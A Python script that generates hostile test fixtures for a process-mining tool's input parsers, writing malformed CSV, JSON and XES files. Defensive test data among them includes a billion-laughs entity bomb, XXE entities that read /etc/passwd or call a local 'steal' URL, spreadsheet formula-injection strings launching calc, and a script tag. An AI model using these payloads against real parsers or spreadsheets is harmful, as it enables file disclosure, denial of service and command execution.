"""Write the small hostile files of this folder (seeded: the same bytes on every run).

    .venv/bin/python tests/data/hostile/make.py

Each file is one way an export nobody controls can go wrong; tests/test_hostile.py holds what
cjm must answer to each (exit code and message). Files of megabytes (a 10 MB cell, 10,000
columns, 100,000 levels of nesting) are made by the test itself in a temporary folder.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
from pathlib import Path

HERE = Path(__file__).parent
HEADER = "case_id,activity,timestamp\n"
GOOD = ("c1,Visit,2024-03-01T10:00:00Z\n"
        "c1,Search,2024-03-01T10:05:00Z\n"
        "c2,Visit,2024-03-02T09:00:00Z\n")
RECORDS = [
    {"case_id": "c1", "activity": "Visit", "timestamp": "2024-03-01T10:00:00Z"},
    {"case_id": "c1", "activity": "Search", "timestamp": "2024-03-01T10:05:00Z"},
    {"case_id": "c2", "activity": "Visit", "timestamp": "2024-03-02T09:00:00Z"},
]
XES_EVENT = ('<event><string key="concept:name" value="{stage}"/>'
             '<date key="time:timestamp" value="2024-03-01T10:00:00Z"/></event>')
# Stage names that must come out exactly as they went in.
HOSTILE_NAMES = [
    'say "hi"', "it's", "back\\slash", "two\nlines", "cr\rreturn", "tab\there",
    "<script>alert(1)</script>", "<b>&amp;</b>", "{braces}", "pipe|bar", "[brackets]",
    "[bold]rich[/bold]", "[/]", "a -> b", "#hash;", "%s %d {0}", "emoji 😀🛒",
    "مرحبا بالعالم", "\u202eevil\u202c", "zero\u200bwidth", "   padded   ",
    "名前", "=1+1", "@mention",
]


def xes(events: str, doctype: str = "") -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype
            + '<log xes.version="1.0" xmlns="http://www.xes-standard.org/">\n'
            '<trace><string key="concept:name" value="c1"/>\n' + events + "\n</trace>\n</log>\n")


def laughs() -> str:
    entities = '<!ENTITY lol "lol">\n' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10))
    return xes(XES_EVENT.format(stage="&lol9;"), f"<!DOCTYPE log [\n{entities}]>\n")


def names_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL)  # a bare CR in a field is no CSV
    writer.writerow(["case_id", "activity", "timestamp"])
    for i, name in enumerate(HOSTILE_NAMES):
        writer.writerow(["j1" if i % 2 else "j2", name, f"2024-03-01T10:{i:02d}:00Z"])
    return out.getvalue()


def files() -> dict[str, bytes | str]:
    rng = random.Random(20240301)
    gz = gzip.compress((HEADER + GOOD * 200).encode(), mtime=0)
    damaged = bytearray(gzip.compress(
        "".join(json.dumps(r) + "\n" for r in RECORDS * 300).encode(), mtime=0))
    damaged[len(damaged) // 2] ^= 0xFF
    mixed = [
        {"case_id": "m1", "activity": value, "timestamp": f"2024-03-01T10:0{i}:00Z"}
        for i, value in enumerate([7, "Visit", {"x": 1}, [1, "a"], None, True, 1.5])
    ] + [
        {"case_id": "m2", "activity": "Visit", "timestamp": value}
        for value in [1709287200, "2024-03-01T10:00:00Z", {"x": 1}, [1], None, False]
    ] + [
        {"case_id": value, "activity": "Visit", "timestamp": "2024-03-01T10:00:00Z"}
        for value in [42, {"id": 1}, ["a"], None]
    ]
    return {
        "truncated_quote.csv": HEADER + GOOD + 'c3,"Visit,2024-03-0',
        "garbage.bin": bytes(rng.randrange(256) for _ in range(4096)),
        "garbage_text.csv": "".join(chr(rng.randrange(33, 127)) for _ in range(3000)),
        "invalid_utf8.csv": HEADER.encode() + GOOD.encode() + b"c3,Caf\xe9 \xff\xfe,2024-03-03\n",
        "invalid_utf8.jsonl": (json.dumps(RECORDS[0]) + "\n").encode()
        + b'{"case_id": "c1", "activity": "Caf\xe9", "timestamp": "2024-03-01T11:00:00Z"}\n'
        + (json.dumps(RECORDS[2]) + "\n").encode(),
        "nul_bytes.csv": HEADER.encode() + b"c1,Vis\x00it,2024-03-01T10:00:00Z\n" + GOOD.encode(),
        "nul_bytes.jsonl": (json.dumps(RECORDS[0]) + "\n").encode()
        + b'{"case_id": "c1", "activity": "Vis\x00it", "timestamp": "2024-03-01T11:00:00Z"}\n'
        + b'{"case_id": "c1", "activity": "Escaped\\u0000NUL", "timestamp": '
          b'"2024-03-01T12:00:00Z"}\n',
        "lone_surrogate.jsonl": json.dumps(RECORDS[0]) + "\n"
        + '{"case_id": "c1", "activity": "half \\ud800 pair", "timestamp": '
          '"2024-03-01T11:00:00Z"}\n'
        + '{"case_id": "c1", "\\udfff": "x", "activity": "Buy", "timestamp": '
          '"2024-03-01T11:00:00Z"}\n'
        + '{"case_id": "c1", "activity": "pair \\ud83d\\ude00 ok", "timestamp": '
          '"2024-03-01T12:00:00Z"}\n',
        "mixed_types.json": json.dumps(mixed, indent=1),
        "mixed_types.jsonl": "".join(json.dumps(r) + "\n" for r in mixed),
        "truncated.json": json.dumps(RECORDS, indent=1)[:-40],
        "trailing_text.json": json.dumps(RECORDS) + "\n{oops}\n",
        "truncated.jsonl": "".join(json.dumps(r) + "\n" for r in RECORDS)[:-30],
        "not_records.json": "[1, \"two\", null, [3]]",
        "truncated.csv.gz": gz[: len(gz) // 2],
        "damaged.jsonl.gz": bytes(damaged),
        "empty.csv": b"",
        "empty.json": b"",
        "empty.jsonl": b"",
        "empty.xes": b"",
        "empty.parquet": b"",
        "blank_lines.jsonl": "\n\n  \n",
        "header_only.csv": HEADER,
        "header_only_no_newline.csv": HEADER.strip(),
        "empty_array.json": "[]\n",
        "no_events.xes": xes(""),
        "billion_laughs.xes": laughs(),
        "external_entity_file.xes": xes(
            XES_EVENT.format(stage="&xxe;"),
            '<!DOCTYPE log [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'),
        "external_entity_http.xes": xes(
            XES_EVENT.format(stage="&xxe;"),
            '<!DOCTYPE log [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/steal">]>\n'),
        "external_parameter_entity.xes": xes(
            XES_EVENT.format(stage="Visit"),
            '<!DOCTYPE log [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> '
            "%remote;]>\n"),
        "external_dtd.xes": xes(
            XES_EVENT.format(stage="Visit"),
            '<!DOCTYPE log SYSTEM "http://127.0.0.1:9/xes.dtd">\n'),
        "truncated.xes": xes(XES_EVENT.format(stage="Visit") * 3)[:-60],
        "not_xml.xes": "<<<>>> this is no XML &&&",
        "garbage.parquet": b"PAR1" + bytes(rng.randrange(256) for _ in range(300)) + b"PAR1",
        "formula_injection.csv": HEADER + GOOD
        + "=cmd|' /C calc'!A0,Visit,2024-03-01T10:00:00Z,extra\n"
        + '"=HYPERLINK(""http://evil.example"",""click"")",Visit\n'
        + "+SUM(A1:A9),Visit,2024-03-01,x\n"
        + "-2+3,Visit\n"
        + "@SUM(1+1)*cmd|' /C calc'!A0,Visit,2024,x\n"
        + "\t=1+1,Visit\n"
        + "c4,=1+1,\n",
        "hostile_names.csv": names_csv(),
        "hostile_names.jsonl": "".join(
            json.dumps({"case_id": "j1", "activity": name,
                        "timestamp": f"2024-03-01T10:{i:02d}:00Z"}) + "\n"
            for i, name in enumerate(HOSTILE_NAMES)),
        "timestamp_extremes.csv": HEADER + GOOD
        + "c5,Visit,10000-01-01T00:00:00Z\n"
        + "c5,Visit,0000-01-01T00:00:00Z\n"
        + "c5,Visit,infinity\n"
        + "c5,Visit,epoch\n"
        + "c5,Visit,2024-13-45T99:99:99Z\n",
        "epoch_overflow.csv": HEADER
        + "c1,Visit,1709287200000\n"
        + "c1,Search,1709287500000\n"
        + "c2,Visit,100000000000000000000000000\n"
        + "c2,Search,-99999999999999999999999\n"
        + "c2,Buy,-62135596800000\n",
        "mixed_line_endings.csv": "case_id,activity,timestamp\r\nc1,Visit,2024-03-01\rc1,Buy,"
        "2024-03-02\nc1,\"two\rlines\",2024-03-03\r\n",
        "cr_only.csv": (HEADER + GOOD).replace("\n", "\r"),
        "unicode_line_separators.csv": "case_id,activity\u2028x,timestamp\n"
        "c1,Visit\u2029,2024-03-01T10:00:00Z\nc1,Page\x0cBreak,2024-03-01T10:01:00Z\n"
        "c1,Next\x85Line,2024-03-01T10:02:00Z\n",
        "utf16_garbage.csv": b"\xff\xfe" + b"c\x00a\x00\n\x00\x00\xd8",
        "one_column.csv": "just one column\nvalue\n",
        "duplicate_columns.csv": "case_id,activity,Activity,timestamp,_line,_file,,\n"
        "c1,Visit,x,2024-03-01T10:00:00Z,1,2,3,4\n",
    }


def main() -> None:
    for name, content in files().items():
        data = content.encode("utf-8") if isinstance(content, str) else content
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
